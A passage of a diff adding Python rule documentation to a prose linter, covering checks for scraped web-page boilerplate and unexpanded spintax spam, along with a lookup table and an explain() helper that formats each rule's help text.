+            """
+        ),
+        options=_switches("HL309") + _OWN_DOMAINS,
+    ),
+    RuleDoc(
+        code="HL310",
+        name="scraped-page-boilerplate",
+        summary="Scraped web-page boilerplate pasted into prose",
+        what=_t(
+            """
+            Reports the interface text of blog and CMS pages that comes along when a page
+            is copied wholesale: "Leave a Reply … Your email address will not be
+            published. Required fields are marked *", "Share this: … Like this:" and
+            similar comment-form and sharing labels. A gettext `.po`/`.pot` catalogue that
+            translates such strings for a theme passes.
+            """
+        ),
+        why=_t(
+            """
+            It shows that the text was scraped from a web page or assembled by a bot
+            rather than written for your project. It often travels with spam links, and
+            copied content may also carry licence problems.
+            """
+        ),
+        example=_t(
+            """
+            Leave a Reply
+            Your email address will not be published. Required fields are marked *
+            """
+        ),
+        fix=_t(
+            """
+            Remove the boilerplate, and check where the rest of the text was copied from.
+            If your project really documents such strings, add them to `allow-phrases`.
+            """
+        ),
+        options=_switches("HL310") + _ALLOW_PHRASES,
+    ),
+    RuleDoc(
+        code="HL311",
+        name="leaked-spintax",
+        summary="Unresolved spintax left in prose",
+        what=_t(
+            """
+            Reports spinner syntax that was never expanded: braces holding word
+            alternatives separated by `|`, such as `{adored|loved|liked}`, left in prose.
+            Code blocks and code spans are skipped, so shell brace expansion, regular
+            expressions and templates shown as code pass.
+            """
+        ),
+        why=_t(
+            """
+            Unexpanded spintax is the fingerprint of an automated spam tool whose template
+            failed to render. No person writes it in a sentence.
+            """
+        ),
+        example=_t(
+            """
+            {If|In case} you {adored|loved|liked} this {post|article}, {visit|check out} our
+            site.
+            """
+        ),
+        fix=_t(
+            """
+            Remove the text; the contribution is spam. If your own docs use the notation
+            to list choices, put it in a code span: `{true|false}`.
+            """
+        ),
+        options=_switches("HL311"),
+    ),
+)
+
+RULES: dict[str, RuleDoc] = {doc.code: doc for doc in sorted(_DOCS, key=lambda d: d.code)}
+"""Every rule code with its documentation, in code order."""
+
+
+def explain(code: str) -> str | None:
+    """The full text for `--explain CODE` (case-insensitive code), or None for an unknown code."""
+    doc = RULES.get(code.strip().upper())
+    if doc is None:
+        return None
+    sections = (
+        ("What it does", doc.what),
+        ("Why is this bad?", doc.why),
+        ("Example", doc.example),
+        ("Use instead", doc.fix),
+        ("Options", doc.options),
+    )
+    parts = [f"{doc.code} ({doc.name})"]
+    # Strip only blank lines: a body may start with an indented code line.
+    parts.extend(f"## {header}\n" + body.strip("\n") for header, body in sections)
+    return "\n\n".join(parts) + "\n"
